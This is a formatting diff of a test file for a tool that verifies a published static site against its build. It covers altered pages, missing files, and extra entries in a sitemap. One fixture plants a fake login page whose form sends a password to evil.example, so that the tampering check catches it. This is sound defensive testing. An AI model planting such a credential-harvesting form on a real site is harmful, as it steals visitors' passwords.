@@ -92,7 +92,9 @@ describe('npm run verify fails naming the file', () => {
 
   it('when a page differs', async () => {
     const page = 'nhiem-vu/pl2-01/index.html';
-    const r = await publishedWith((s) => writeFileSync(join(s, page), readFileSync(join(s, page), 'utf8').replace('Phụ lục II', 'Phụ lục III')));
+    const r = await publishedWith((s) =>
+      writeFileSync(join(s, page), readFileSync(join(s, page), 'utf8').replace('Phụ lục II', 'Phụ lục III')),
+    );
     expect(r.code).toBe(1);
     expect(r.out).toContain(page);
   });
@@ -101,7 +103,7 @@ describe('npm run verify fails naming the file', () => {
     const file = 'data/unit-years.csv';
     const r = await publishedWith((s) => {
       rmSync(join(s, file));
-      writeFileSync(join(s, 'SHA256SUMS'), readFileSync(join(s, 'SHA256SUMS'), 'utf8').replace(/^.*  data\/unit-years\.csv\n/m, ''));
+      writeFileSync(join(s, 'SHA256SUMS'), readFileSync(join(s, 'SHA256SUMS'), 'utf8').replace(/^.* {2}data\/unit-years\.csv\n/m, ''));
     });
     expect(r.code).toBe(1);
     expect(r.out).toContain(`thiếu trên trang công bố: ${file}`);
@@ -112,7 +114,13 @@ describe('npm run verify fails naming the file', () => {
       mkdirSync(join(s, 'dang-nhap'));
       writeFileSync(join(s, 'dang-nhap', 'index.html'), '<form action="https://evil.example/"><input type="password"></form>');
       const map = readdirSitemap(s);
-      writeFileSync(join(s, map), readFileSync(join(s, map), 'utf8').replace('</urlset>', '<url><loc>https://hanoi-khi-hau.github.io/dang-nhap/</loc></url></urlset>'));
+      writeFileSync(
+        join(s, map),
+        readFileSync(join(s, map), 'utf8').replace(
+          '</urlset>',
+          '<url><loc>https://hanoi-khi-hau.github.io/dang-nhap/</loc></url></urlset>',
+        ),
+      );
     });
     expect(r.code).toBe(1);
     expect(r.out).toMatch(/liệt kê một trang mà bản dựng không có: dang-nhap\/index\.html/);
@@ -120,7 +128,10 @@ describe('npm run verify fails naming the file', () => {
 
   it('when a sitemap.xml that the build does not have is added (crawlers look there by convention)', async () => {
     const r = await publishedWith((s) =>
-      writeFileSync(join(s, 'sitemap.xml'), '<?xml version="1.0"?><urlset><url><loc>https://hanoi-khi-hau.github.io/dang-nhap/</loc></url></urlset>'),
+      writeFileSync(
+        join(s, 'sitemap.xml'),
+        '<?xml version="1.0"?><urlset><url><loc>https://hanoi-khi-hau.github.io/dang-nhap/</loc></url></urlset>',
+      ),
     );
     expect(r.code).toBe(1);
     expect(r.out).toContain('sitemap.xml liệt kê một trang mà bản dựng không có: dang-nhap/index.html');
